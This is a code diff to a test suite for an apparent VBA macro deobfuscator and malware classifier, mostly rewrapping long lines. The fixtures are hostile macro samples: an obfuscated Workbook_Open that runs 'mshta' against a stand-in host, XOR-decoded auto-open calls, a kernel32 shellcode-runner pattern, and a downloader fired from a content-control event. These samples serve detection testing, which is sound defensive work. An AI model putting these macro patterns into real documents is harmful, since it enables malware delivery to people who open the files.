@@ -119,7 +119,8 @@ def test_a_long_field_olevba_misplaces_is_taken_from_the_plain_strings() -> None
     exact = " " * 200 + "JABsAGEA" * 40
     misread = "\xff.\x00" + exact[:-5]
     stores = doc_stores.Stores()
-    forms = [("F", [{"name": b"C", "value": b"0", "group_name": misread.encode("latin-1")}], [exact])]
+    control = {"name": b"C", "value": b"0", "group_name": misread.encode("latin-1")}
+    forms = [("F", [control], [exact])]
     doc_stores.form_controls(iter(forms), stores)
     assert stores.values["f.c.groupname"] == exact
 
@@ -132,7 +133,8 @@ def test_a_function_with_arguments_is_run() -> None:
     shifted = " & ".join(f"oie({ord(c) + 22})" for c in "mshta http://x.example/p")
     code = (
         "Function oie(w As Integer)\n  oie = Chr(w - 22)\nEnd Function\n"
-        f"Sub Workbook_Open()\n  c = {shifted}\n  CreateObject(\"WScript.Shell\").Run c, 0\nEnd Sub\n"
+        f"Sub Workbook_Open()\n  c = {shifted}\n"
+        '  CreateObject("WScript.Shell").Run c, 0\nEnd Sub\n'
     )
     assert "mshta http://x.example/p" in folded(code).strings
 
@@ -161,7 +163,8 @@ def test_xor_loops_and_identity_functions() -> None:
     numbers = ", ".join(str(ord(c) ^ key) for c in secret)
     code = (
         "Function f(x)\n  f = x\nEnd Function\n"
-        "Function d(a)\n  For Each n In a\n    r = r & Chr(n Xor 7)\n  Next\n  d = r\nEnd Function\n"
+        "Function d(a)\n  For Each n In a\n    r = r & Chr(n Xor 7)\n  Next\n"
+        "  d = r\nEnd Function\n"
         f"Sub AutoOpen()\n  GetObject(f(d(Array({numbers})))).Create \"calc\"\nEnd Sub\n"
     )
     assert vba_fold.evaluate(f"d(Array({numbers}))", code) == secret
@@ -210,7 +213,8 @@ def test_recursion_and_endless_loops_end_within_the_bounds() -> None:
     code = (
         'Function R(x)\n  R = R(x & "a") & "b"\nEnd Function\n'
         "Function Spin()\n  Do\n    n = n + 1\n  Loop\nEnd Function\n"
-        "Function Long()\n  For i = 1 To 1000000000\n    s = s & \"x\"\n  Next\n  Long = s\nEnd Function\n"
+        "Function Long()\n  For i = 1 To 1000000000\n    s = s & \"x\"\n  Next\n"
+        "  Long = s\nEnd Function\n"
         'Sub AutoOpen()\n  Shell R("q") & Spin() & Long()\nEnd Sub\n'
     )
     started = time.monotonic()
@@ -264,10 +268,11 @@ def test_its_own_file_read_back_and_run() -> None:
 
 def test_shellcode_copied_and_called_back() -> None:
     code = (
-        'Private Declare PtrSafe Function VirtualAllocEx Lib "kernel32" (ByVal h As LongPtr) As LongPtr\n'
-        'Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal d As LongPtr) As LongPtr\n'
-        'Private Declare PtrSafe Function EnumDateFormatsW Lib "kernel32" (ByVal f As LongPtr) As Long\n'
-        "Sub Document_Open()\n  a = VirtualAllocEx(-1)\n  RtlMoveMemory a\n  EnumDateFormatsW a\nEnd Sub\n"
+        'Private Declare PtrSafe Function VirtualAllocEx Lib "kernel32" (ByVal h As Long) As Long\n'
+        'Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal d As Long) As Long\n'
+        'Private Declare Function EnumDateFormatsW Lib "kernel32" (ByVal f As Long) As Long\n'
+        "Sub Document_Open()\n  a = VirtualAllocEx(-1)\n  RtlMoveMemory a\n"
+        "  EnumDateFormatsW a\nEnd Sub\n"
     )
     kinds = [t.kind for t in vba_traits.behaviour_traits(code, (), ())]
     assert kinds == ["shellcode_runner"]
@@ -279,7 +284,10 @@ def test_shellcode_copied_and_called_back() -> None:
 
 
 def test_a_downloader_behind_a_content_control_event_is_malicious() -> None:
-    code = f'Private Sub Document_ContentControlOnEnter(ByVal c As Object)\n  Shell "{DOWNLOADER}", 0\nEnd Sub\n'
+    code = (
+        "Private Sub Document_ContentControlOnEnter(ByVal c As Object)\n"
+        f'  Shell "{DOWNLOADER}", 0\nEnd Sub\n'
+    )
     result = docm(code)
     assert result.verdict.label == "malicious"
     assert critical(result).facts()["autoexec"] == "Document_ContentControlOnEnter"
